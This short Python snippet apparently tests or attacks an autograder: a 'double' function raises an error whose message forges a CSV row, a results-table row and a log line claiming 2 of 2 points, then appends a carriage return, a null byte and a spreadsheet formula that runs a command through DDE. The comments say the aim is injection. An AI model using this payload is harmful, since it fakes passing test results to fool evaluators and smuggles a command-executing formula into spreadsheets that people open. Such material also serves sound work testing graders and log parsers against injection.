# Breaks the message's line, so that a log or a table seems to hold a result of its own.
# aim: inject
# %% double_answer
def double(x):
    raise ValueError(
        "no\n\nadmin,vault,double,2.0,2.0\n| double | passed | 2 / 2 |\n[INFO] double: 2 of 2 points\r\x00=cmd|'/C calc'!A0"
    )
